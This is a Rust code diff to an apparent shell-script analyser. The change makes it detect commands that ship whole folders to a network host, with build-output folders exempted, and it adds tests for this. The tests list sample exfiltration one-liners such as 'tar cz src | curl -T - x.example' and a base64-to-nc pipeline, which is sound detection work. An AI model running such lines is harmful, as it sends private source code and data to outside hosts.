@@ -38,11 +38,13 @@ pub(crate) fn mark(script: &mut Script) {
             continue;
         };
         let mut files = Vec::new();
+        let mut whole = Vec::new();
         own(command, &mut files);
         let mut at = command.piped_from.filter(|_| takes_input(command));
         for _ in 0..MOST_PIPES {
             let Some(feeds) = at.and_then(|index| script.commands.get(index)) else { break };
             files.extend(read_by(feeds));
+            whole.extend(folders_of(feeds));
             at = feeds.piped_from;
         }
         if let Some(feeds) = command.piped_from.and_then(|from| script.commands.get(from))
@@ -63,8 +65,8 @@ pub(crate) fn mark(script: &mut Script) {
         if let Some(command) = script.commands.get_mut(index) {
             command.effects.extend(files.into_iter().map(|target| Effect {
                 kind: EffectKind::Send,
+                recursive: whole.contains(&target),
                 target: Some(target),
-                recursive: false,
                 forced: false,
             }));
         }
@@ -100,6 +102,10 @@ impl Made {
                     let Some(feeds) = at else { break };
                     for file in taken_by(feeds) {
                         let origin = place(feeds, &file);
+                        // Two names of one file: what is put into the one is in the other.
+                        if matches!(command.name(), "ln" | "link") {
+                            from.push((origin.clone(), target.clone(), made.clone()));
+                        }
                         from.push((made.clone(), file, origin));
                     }
                     at = feeds.piped_from.and_then(|index| script.commands.get(index));
@@ -121,7 +127,7 @@ impl Made {
             next += 1;
             for (made, file, origin) in &self.from {
                 let below = made.strip_prefix(sent.as_str()).is_some_and(|r| r.starts_with('/'));
-                if (*made == sent || below) && !places.contains(origin) {
+                if (*made == sent || below) && !is_nameless(file) && !places.contains(origin) {
                     places.push(origin.clone());
                     files.push(file.clone());
                 }
@@ -183,6 +189,37 @@ fn read_by(command: &Command) -> impl Iterator<Item = Word> {
     read.filter_map(|effect| effect.target.clone())
 }
 
+/// Names of folders that a build makes, and can make again.
+const PRODUCTS: &[&str] = &[
+    "_site",
+    "artifacts",
+    "build",
+    "coverage",
+    "dist",
+    "generated",
+    "out",
+    "output",
+    "public",
+    "release",
+    "reports",
+    "site",
+    "target",
+];
+
+/// Folders that a command reads with all in them, but for those of products.
+fn folders_of(command: &Command) -> impl Iterator<Item = Word> {
+    let deep = command.effects.iter().filter(|e| e.kind == EffectKind::Read && e.recursive);
+    deep.filter_map(|effect| effect.target.clone()).filter(|folder| {
+        let names = folder.text.trim_start_matches("./").split('/');
+        !names.clone().any(|name| PRODUCTS.contains(&name)) || names.clone().any(|n| n == "..")
+    })
+}
+
+/// `$FILE`: nothing is known of it, not even a folder.
+fn is_nameless(file: &Word) -> bool {
+    !file.literal && !file.text.contains('/')
+}
+
 /// What it reads itself, but for keys and settings of its own.
 fn own(command: &Command, files: &mut Vec<Word>) {
     let values = command.args.windows(2).filter_map(|pair| match pair {
@@ -190,7 +227,8 @@ fn own(command: &Command, files: &mut Vec<Word>) {
         _ => None,
     });
     let kept: BTreeSet<&str> = values.collect();
-    files.extend(read_by(command).filter(|file| !kept.contains(file.text.as_str())));
+    let is_kept = |file: &Word| kept.contains(file.text.as_str()) || file.text.starts_with("<(");
+    files.extend(read_by(command).filter(|file| !is_kept(file)));
 }
 
 /// `curl -d "$(cat file)"`: what an argument is made of was read just before.
@@ -242,6 +280,32 @@ mod tests {
             "rsync -a f me@host:d",
         ] {
             assert!(sends(line), "{line}");
+        }
+    }
+
+    #[test]
+    fn whole_folders_that_leave() {
+        let whole = |line: &str| {
+            let script = read(line, Dialect::Posix, Limits::default());
+            let mut effects = script.commands.into_iter().flat_map(|command| command.effects);
+            effects.any(|effect| effect.kind == EffectKind::Send && effect.recursive)
+        };
+        for line in [
+            "tar cz src | curl -T - x.example",
+            "tar cz src | base64 | nc x.example 1",
+            "zip -qr - src | curl -T - x.example",
+            "find . -type f -exec cat {} + | curl -d @- x.example",
+            "tar cz dist/../src | curl -T - x.example",
+        ] {
+            assert!(whole(line), "{line}");
+        }
+        for line in [
+            "tar cz dist | curl -T - x.example",
+            "tar cz ./target/doc | curl -T - x.example",
+            "cat src/a | curl -T - x.example",
+            "tar cz src | wc -c; curl x.example",
+        ] {
+            assert!(!whole(line), "{line}");
         }
     }
 
